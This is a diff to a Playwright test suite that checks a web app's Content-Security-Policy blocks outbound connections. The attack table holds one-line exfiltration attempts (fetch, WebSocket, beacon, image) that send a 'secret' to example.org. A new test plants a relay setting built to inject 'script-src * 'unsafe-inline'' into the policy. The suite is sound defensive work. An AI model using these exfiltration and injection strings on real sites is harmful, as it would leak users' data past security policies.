@@ -12,6 +12,7 @@ from tools.build import ROOT
 from tools.inside import BOOTED
 from tools.serve import Site
 from tools.site import npm, pins
+from tools.site.policy import RELAYS
 
 RECORD = """
 window.violations = [];
@@ -46,6 +47,14 @@ ATTACKS = {
     ),
     "a module of another host": ("() => import('https://example.org/x.js')", "script-src-elem"),
     "a word to another host": ("() => fetch('https://example.org/?secret')", "connect-src"),
+    "a socket to a host that nobody chose": (
+        "() => new WebSocket('wss://example.org/?secret')",
+        "connect-src",
+    ),
+    "a socket on one's own machine": (
+        "() => new WebSocket('ws://127.0.0.1:9/?secret')",
+        "connect-src",
+    ),
     "a beacon": ("() => navigator.sendBeacon('https://example.org/')", "connect-src"),
     "a picture of another host": (
         "() => { new Image().src = 'https://example.org/?secret'; }",
@@ -87,6 +96,30 @@ def test_an_attack_is_blocked(booted: Page, attack: str) -> None:
     booted.evaluate(f"() => {{ {later}; }}")
     booted.wait_for_function("() => violations.length")
     assert set(booted.evaluate("violations")) == {directive}
+
+
+CHOSEN = """
+localStorage.setItem("brushpass.relays",
+  "ws://127.0.0.1:9/a stun:x wss://a.example;script-src%20* 'unsafe-inline' wss://b.example,c");
+"""
+
+
+def test_relays_that_a_person_has_chosen_may_be_reached_and_nothing_else(
+    browser: Browser, site: Site
+) -> None:
+    page = browser.new_context(service_workers="block").new_page()
+    page.add_init_script(CHOSEN)
+    page.add_init_script(RECORD)
+    page.goto(site.url)
+    tags = page.locator('meta[http-equiv="Content-Security-Policy"]')
+    usual = " ".join(RELAYS)
+    assert tags.nth(1).get_attribute("content") == f"connect-src 'self' {usual} ws://127.0.0.1:9"
+    attempts = ["ws://127.0.0.1:9/b", "ws://127.0.0.1:10/", "wss://a.example/"]
+    for address in attempts:
+        page.evaluate(f"() => {{ setTimeout(() => {{ new WebSocket('{address}'); }}); }}")
+    page.wait_for_function("() => violations.length >= 2")
+    assert page.evaluate("violations") == ["connect-src", "connect-src"]
+    page.context.close()
 
 
 def test_every_page_has_a_policy_before_anything_else(site_folder: Path) -> None:
